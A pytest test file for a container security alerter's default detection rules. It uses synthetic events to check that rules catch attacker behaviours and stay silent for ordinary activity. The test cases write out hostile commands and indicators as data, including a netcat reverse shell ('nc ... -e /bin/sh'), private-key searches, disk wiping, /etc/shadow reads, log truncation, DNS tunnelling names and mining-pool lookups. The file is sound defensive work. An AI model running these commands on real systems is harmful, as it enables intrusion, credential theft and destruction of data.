"""The default ruleset on synthetic enriched events (shapes of shared/schema.py):
each rule fires on its behaviour, ordinary activity fires nothing, and the
alerter's sequence state (drop-and-execute, memfd exec) feeds the rules."""
import time

import pytest

from services.alerter.config import DEFAULT_RULES_DIR, rule_files
from services.alerter.engine import load_rules
from services.alerter.state import ExecState
from shared.schema import new_event_id

CID = "ab" * 32
CTR = {"id": CID, "name": "web-1", "image": "localhost/eunomia-bb:latest", "runtime": "podman", "labels": {}}


@pytest.fixture(scope="module")
def rs():
    return load_rules(rule_files((DEFAULT_RULES_DIR,)))


def ev(kind, name="busybox", args=None, pname="sh", exe=None, host=False, **kw):
    args = args or [name]
    extra = {k[5:]: kw.pop(k) for k in list(kw) if k.startswith("proc_")}
    e = _ev(kind, name, args, pname, exe, host, **kw)
    e["proc"].update(extra)
    return e


def _ev(kind, name, args, pname, exe, host, **kw):
    return {"id": new_event_id("n1"), "ts": 1_700_000_000_000_000_000, "node": "n1", "kind": kind,
            "pid": 4242, "tid": 4242, "ppid": 4000, "uid": 0, "gid": 0, "comm": name[:15], "cgroup_id": 77,
            "proc": {"exe": exe or f"/bin/{name}", "args": args, "cmdline": " ".join(args), "name": name,
                     "cwd": "/", "ppid": 4000, "pname": pname, "pexe": f"/bin/{pname}", "pcmdline": pname,
                     "ancestors": [{"pid": 4000, "comm": pname, "exe": f"/bin/{pname}", "args": [pname]}]},
            "container": None if host else CTR, "k8s": None, **kw}


def execev(argv, pname="sh", filename=None, **kw):
    name = argv[0].rsplit("/", 1)[-1]
    fn = filename or (argv[0] if argv[0].startswith("/") else f"/bin/{argv[0]}")
    return ev("exec", name=name, args=argv, pname=pname, exe=fn, filename=fn, argv=argv, ret=0, **kw)


def dnsev(qname, qtype="A", direction="query", resolver_configured=True, **kw):
    return ev("dns", name="xmrig-renamed", direction=direction, family=2, proto="udp", saddr="10.0.0.5", sport=40000,
              daddr="10.0.0.2", dport=53, len=40, truncated=False, txid=7, qname=qname, qtype=qtype, rcode=None,
              answers=[], ttl=None, latency_ns=None, malformed=None, resolver_configured=resolver_configured, **kw)


O_RDONLY, O_WRONLY, O_CREAT, O_TRUNC = 0, 1, 0o100, 0o1000

CASES = [
    ("Terminal shell in container", execev(["sh"], pname="bash", proc_tty=34816)),
    ("Terminal shell in container", execev(["bash", "-i"], pname="python3", proc_tty=34817)),
    ("Netcat remote code execution", execev(["nc", "10.0.0.1", "4444", "-e", "/bin/sh"])),
    ("Search for private keys", execev(["find", "/", "-name", "id_rsa"])),
    ("Search for private keys", execev(["grep", "-r", "BEGIN PRIVATE", "/home"])),
    ("Disk wipe or filesystem creation", execev(["shred", "-u", "/tmp/x"])),
    ("Disk wipe or filesystem creation", execev(["mkfs.ext4", "/dev/sdb"])),
    ("Package management process in container", execev(["apk", "add", "curl"])),
    ("Package management process in container", execev(["pip", "install", "x"])),
    ("Execution from /dev/shm", execev(["/dev/shm/x"])),
    ("Fileless execution via memfd_create", execev(["x"], filename="/memfd:payload (deleted)")),
    ("DNS lookup of a mining pool domain", dnsev("xmr-eu1.nanopool.org")),
    ("DNS lookup of a mining pool domain", dnsev("gulf.moneroocean.stream", host=True)),
    ("DNS lookup of a mining pool domain", dnsev("new-node7.supportxmr.com")),
    ("Connection to a mining pool domain", ev("connect", name="x", family=2, daddr="1.2.3.4", dport=10128,
                                              saddr=None, sport=None, proto=6, ret=0, dname="pool.supportxmr.com")),
    ("DNS query to an unexpected resolver", dnsev("www.example.com", resolver_configured=False)),
    ("DNS tunnelling suspected", dnsev("nbswy3dpeb3w64tmmqqhi2ltebuxgidbebzwk3tsmv2a.t.evil.example")),
    ("DNS tunnelling suspected", dnsev("0a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f607182.x.example")),
    ("Read sensitive file", ev("open", name="cat", path="/etc/shadow", flags=O_RDONLY, mode=0, ret=3)),
    ("Read sensitive file", ev("open", name="cat", path="/etc/sudoers", flags=O_RDONLY, mode=0, ret=3)),
    ("Read sensitive file", ev("open", name="python3", path="/etc/shadow", flags=O_RDONLY, mode=0, ret=3,
                               host=True)),
    ("Write below etc", ev("open", name="sh", path="/etc/passwd", flags=O_WRONLY | O_TRUNC, mode=0, ret=3)),
    ("Write below binary dir", ev("open", name="cp", path="/usr/bin/ls", flags=O_WRONLY | O_CREAT, mode=0o755,
                                  ret=3)),
    ("Write below binary dir", ev("open", name="cp", path="/sbin/init", flags=O_WRONLY | O_CREAT, mode=0o755,
                                  ret=3, host=True)),
    ("Clear log activities", ev("open", name="sh", path="/var/log/auth.log", flags=O_WRONLY | O_TRUNC, mode=0,
                                ret=3)),
    ("Create symlink over sensitive files", ev("symlink", name="ln", target="/etc/shadow", path="/tmp/s", ret=0)),
    ("Create hardlink over sensitive files", ev("link", name="ln", oldpath="/etc/passwd", newpath="/tmp/p", ret=0)),
    ("Set setuid or setgid bit", ev("chmod", name="chmod", path="/tmp/sh", mode=0o4755, ret=0)),
    ("Set setuid or setgid bit", ev("chmod", name="chmod", path="/tmp/sh", mode=0o2755, ret=0)),   # setgid
    ("Set setuid or setgid bit", ev("chmod", name="chmod", path="/tmp/sh", mode=0o104755, ret=0)),  # type bits
    ("Set setuid or setgid bit", ev("chmod", name="x", path="/tmp/sh", mode=0o12755, ret=0)),  # junk above 07777
    ("Set setuid or setgid bit", ev("chmod", name="x", path="/tmp/sh", mode=0o176000, ret=0)),
    ("Write to cgroup release_agent", ev("open", name="sh", path="/sys/fs/cgroup/rdma/release_agent",
                                         flags=O_WRONLY | O_TRUNC, mode=0, ret=3)),
    ("Packet socket created in container", ev("socket", name="x", family=17, type=3, protocol=768, ret=3)),
    ("Redirect STDOUT/STDIN to network connection in container",
     ev("dup", name="nc", syscall="dup2", oldfd=3, newfd=0, fd_type="socket", ret=0)),
    ("Redirect STDOUT/STDIN to network connection in container",   # a reverse shell named like a server
     ev("dup", name="httpd", syscall="dup2", oldfd=3, newfd=0, fd_type="socket", sock_origin="connected", ret=0)),
    ("Redirect STDOUT/STDIN to network connection in container",   # a bind shell
     ev("dup", name="python3", syscall="dup2", oldfd=4, newfd=0, fd_type="socket", sock_origin="accepted", ret=0)),
    ("Linux kernel module injection", ev("module", name="insmod", syscall="finit_module", fd=3,
                                         ret=-8, host=True)),
    ("PTRACE attached to process", ev("ptrace", name="x", request=16, target_pid=1, ret=0)),
    ("PTRACE anti-debug attempt", ev("ptrace", name="x", request=0, target_pid=0, ret=0)),
    ("Change namespace in container", ev("unshare", name="unshare", flags=0x20000, ret=-1)),
    ("Change namespace in container", ev("setns", name="nsenter", fd=3, nstype=0, ret=-1)),
    ("BPF program loaded", ev("bpf", name="x", cmd=5, prog_type=1, ret=-1)),
    ("Mount in container", ev("mount", name="mount", source="tmpfs", target="/mnt", fstype="tmpfs", flags=0,
                              ret=0)),
    ("Contact cloud metadata service", ev("connect", name="wget", family=2, daddr="169.254.169.254", dport=80,
                                          saddr="0.0.0.0", sport=0, proto=6, ret=-101)),
    ("Container process killed for memory (OOM)", ev("oom", name="hog", victim_pid=4242, victim_comm="hog",
                                                     victim_uid=0, total_vm_kb=40000, anon_rss_kb=32000,
                                                     file_rss_kb=100)),
    ("Contact cloud metadata service", ev("connect", name="x", family=10, daddr="::ffff:169.254.169.254", dport=80,
                                          saddr="::", sport=0, proto=6, ret=-101)),
    ("Contact cloud metadata service", ev("connect", name="x", family=10, daddr="::ffff:a9fe:a9fe", dport=80,
                                          proto=6, ret=-101)),
]

QUIET = [
    execev(["sh", "-c", "ls /"], pname="runc"),            # a container's entrypoint shell
    execev(["sh", "-c", "ls /"], pname="conmon"),
    execev(["sh", "-c", "run-parts /etc/periodic/15min"], pname="crond", proc_tty=0),  # cron job, no terminal
    execev(["sh", "/app/healthcheck.sh"], pname="sh", proc_tty=0),
    execev(["sh"], pname="bash", proc_tty=34816, host=True),   # a terminal shell on the host
    execev(["ls", "-l", "/"]), execev(["cat", "/etc/hostname"]), execev(["sleep", "1"]),
    execev(["nc", "-z", "localhost", "8080"]),             # a health check (nc -l now alerts: a listener)
    execev(["find", "/", "-name", "*.conf"]),
    execev(["sh", "-c", "echo hi"], pname="bash", host=True),
    ev("open", name="cat", path="/etc/hostname", flags=O_RDONLY, mode=0, ret=3),
    ev("open", name="sh", path="/tmp/out", flags=O_WRONLY | O_CREAT | O_TRUNC, mode=0o644, ret=3),
    ev("open", name="sudo", path="/etc/shadow", flags=O_RDONLY, mode=0, ret=3, host=True),
    ev("open", name="sh", path="/var/log/app.log", flags=O_WRONLY | 0o2000, mode=0, ret=3),  # append
    ev("chmod", name="chmod", path="/tmp/x", mode=0o755, ret=0),
    ev("chmod", name="chmod", path="/tmp/x", mode=0o1777, ret=0),  # sticky only
    ev("chmod", name="chmod", path="/tmp/x", mode=0o100755, ret=0),  # type bits, no set-id
    ev("connect", name="wget", family=10, daddr="::ffff:169.254.169.253", dport=80, proto=6, ret=0),
    ev("symlink", name="ln", target="/etc/hostname", path="/tmp/h", ret=0),
    ev("dup", name="sh", syscall="dup2", oldfd=3, newfd=1, fd_type="other", ret=1),
    # busybox httpd's per-connection child: the accepted connection as stdin/stdout
    ev("dup", name="httpd", syscall="dup2", oldfd=4, newfd=0, fd_type="socket", sock_origin="accepted", ret=0),
    ev("socket", name="x", family=2, type=3, protocol=1, ret=3, host=True),
    ev("connect", name="wget", family=2, daddr="127.0.0.1", dport=80, saddr="127.0.0.1", sport=5555, proto=6,
       ret=0),
    ev("ptrace", name="gdb", request=16, target_pid=99, ret=0, host=True),
    ev("bpf", name="x", cmd=0, prog_type=-1, ret=3),
    ev("mount", name="mount", source="tmpfs", target="/mnt", fstype="tmpfs", flags=0, ret=0, host=True),
    dnsev("www.example.com"),
    dnsev("a3f9c2e1.cdn.example.net", qtype="AAAA"),
    dnsev("kube-dns.kube-system.svc.cluster.local", host=True, resolver_configured=False),
    ev("connect", name="curl", family=2, daddr="93.184.216.34", dport=443, saddr=None, sport=None, proto=6, ret=0,
       dname="www.example.com"),
]


@pytest.mark.parametrize("rule,event", CASES, ids=[f"{i}-{c[0]}" for i, c in enumerate(CASES)])
def test_rule_fires(rs, rule, event):
    got = [m.rule for m in rs.evaluate(ExecState().annotate(event))]
    assert rule in got, got


@pytest.mark.parametrize("event", QUIET, ids=[f"{i}-{e['kind']}-{e['proc']['name']}" for i, e in enumerate(QUIET)])
def test_ordinary_activity_is_quiet(rs, event):
    assert [m.rule for m in rs.evaluate(ExecState().annotate(event))] == []


def test_every_rule_has_a_case(rs):
    from tests.test_default_rules_coverage_synthetic import CASES as COVERAGE_CASES  # the tactic files 40-* ... 90-*
    covered = {c[0] for c in CASES} | {c[0] for c in COVERAGE_CASES}
    assert {r.name for r in rs.rules if r.enabled} - covered == {"Drop and execute new binary in container"}


def test_drop_and_execute_needs_the_create_in_the_same_container(rs):
    st = ExecState(size=8)
    other = {**CTR, "id": "cd" * 32}
    st.annotate(ev("open", name="sh", path="/tmp/drop.sh", flags=O_WRONLY | O_CREAT | O_TRUNC, mode=0o644, ret=3))
    st.annotate({**ev("open", name="sh", path="/tmp/other", flags=O_WRONLY | O_CREAT, mode=0o644, ret=3),
                 "container": other})
    rules = lambda e: [m.rule for m in rs.evaluate(st.annotate(e))]  # noqa: E731
    assert "Drop and execute new binary in container" in rules(execev(["/tmp/drop.sh"]))
    assert "Drop and execute new binary in container" not in rules(execev(["/tmp/other"]))
    assert "Drop and execute new binary in container" not in rules(execev(["/bin/ls"]))
    # relative create resolved against proc.cwd; a rename's new name counts as created
    e = ev("open", name="sh", path="rel", flags=O_CREAT | O_WRONLY, mode=0o644, ret=3)
    e["proc"]["cwd"] = "/work"
    st.annotate(e)
    st.annotate(ev("rename", name="mv", oldpath="/tmp/a", newpath="/usr/local/bin/b", ret=0))
    assert "Drop and execute new binary in container" in rules(execev(["/work/rel"]))
    assert "Drop and execute new binary in container" in rules(execev(["/usr/local/bin/b"]))
    # bounded: old entries are forgotten
    for i in range(20):
        st.annotate(ev("open", name="sh", path=f"/tmp/f{i}", flags=O_CREAT | O_WRONLY, mode=0o644, ret=3))
    assert st.created.count(CID) == 8 and st.evictions["created"] >= 12
    assert "Drop and execute new binary in container" not in rules(execev(["/tmp/drop.sh"]))
    # ... but only by the container's own entries: the other container's create is still known
    assert st.created.has("cd" * 32, "/tmp/other")


def test_one_container_cannot_flush_another_containers_state(rs):
    st = ExecState(size=64, containers=4)
    victim = {**CTR, "id": "cd" * 32}
    st.annotate({**ev("open", name="cp", path="/tmp/drop", flags=O_WRONLY | O_CREAT, mode=0o755, ret=3),
                 "container": victim})
    st.annotate({**ev("memfd", name="loader", flags=1, ret=3), "name": "p", "container": victim, "pid": 99})
    for i in range(10_000):   # the noisy container creates and execs in a loop
        st.annotate(ev("open", name="sh", path=f"/tmp/f{i}", flags=O_CREAT | O_WRONLY, mode=0o644, ret=3))
        st.remember_exec(execev([f"/tmp/f{i}"]), set())
    assert st.created.count(CID) == 64 and len(st.created) == 65
    rules = lambda e: [m.rule for m in rs.evaluate(st.annotate(e))]  # noqa: E731
    assert "Drop and execute new binary in container" in rules({**execev(["/tmp/drop"]), "container": victim})
    assert "Fileless execution via memfd_create" in rules(
        {**execev(["x"], filename="/dev/fd/3"), "container": victim, "pid": 99})
    # the number of containers remembered is bounded too
    for n in range(10):
        st.annotate({**ev("open", name="sh", path="/tmp/y", flags=O_CREAT, mode=0o644, ret=3),
                     "container": {**CTR, "id": f"{n:064x}"}})
    assert len(st.created._t) == 4


def test_memfd_then_exec_of_an_fd_is_fileless(rs):
    st = ExecState()
    rules = lambda e: [m.rule for m in rs.evaluate(st.annotate(e))]  # noqa: E731
    assert "Fileless execution via memfd_create" not in rules(execev(["x"], filename="/dev/fd/3"))
    st.annotate({**ev("memfd", name="loader", flags=1, ret=3), "name": "payload"})
    assert "Fileless execution via memfd_create" in rules(execev(["x"], filename="/dev/fd/3"))


def test_memfd_exec_named_by_the_kernel_needs_no_state(rs):
    e = execev(["true"], filename="")
    e["comm"] = e["proc"]["name"] = "memfd:payload"
    assert "Fileless execution via memfd_create" in [m.rule for m in rs.evaluate(ExecState().annotate(e))]


def test_a_cause_arriving_after_its_exec_is_evaluated_late(rs):
    """Kinds travel on different subjects: the open may come after the exec."""
    st = ExecState()
    ex = execev(["/tmp/drop"], pname="sh")
    ex["ts"] += 1000
    first = [m.rule for m in rs.evaluate(st.annotate(ex))]
    assert "Drop and execute new binary in container" not in first
    st.remember_exec(ex, set(first))
    opened = ev("open", name="cp", path="/tmp/drop", flags=O_WRONLY | O_CREAT, mode=0o755, ret=3)
    late = st.late(st.annotate(opened))
    assert len(late) == 1 and late[0][0]["proc"]["is_exe_upper_layer"] is True
    assert "Drop and execute new binary in container" in [m.rule for m in rs.evaluate(late[0][0])]
    assert st.late(opened) == []  # once only
    # a create after the exec explains nothing
    ex2 = execev(["/tmp/other"])
    st.remember_exec(ex2, set())
    assert st.late({**ev("open", name="cp", path="/tmp/other", flags=O_CREAT, mode=0o755, ret=3),
                    "ts": ex2["ts"] + 1}) == []


def test_execs_are_held_for_a_late_cause_only_within_the_window(rs):
    """Whole exec events are held: past the window they are neither matched nor kept."""
    t0 = time.monotonic()
    old, new = execev(["/tmp/old"], pid=101), execev(["/tmp/new"], pid=102)
    for e in (old, new):
        e["ts"] += 1000
    opened = lambda p: {**ev("open", name="cp", path=p, flags=O_WRONLY | O_CREAT, mode=0o755, ret=3)}  # noqa: E731
    st = ExecState(late_window_s=30)
    st.remember_exec(old, set(), now=t0 - 31)
    assert st.late(st.annotate(opened("/tmp/old"))) == []  # its cause came too late to be one
    st = ExecState(late_window_s=30)
    st.remember_exec(old, set(), now=t0 - 31)
    st.remember_exec(new, set(), now=t0)
    st.expire(t0)
    assert len(st.execs_by_path) == 1 and len(st.execs_by_pid) == 1  # only the new exec is held
    assert [e["filename"] for e, _ in st.late(st.annotate(opened("/tmp/new")))] == ["/tmp/new"]
    st.expire(t0 + 31)
    assert len(st.execs_by_path) == 0 and len(st.execs_by_pid) == 0 and not st.execs_by_pid._t
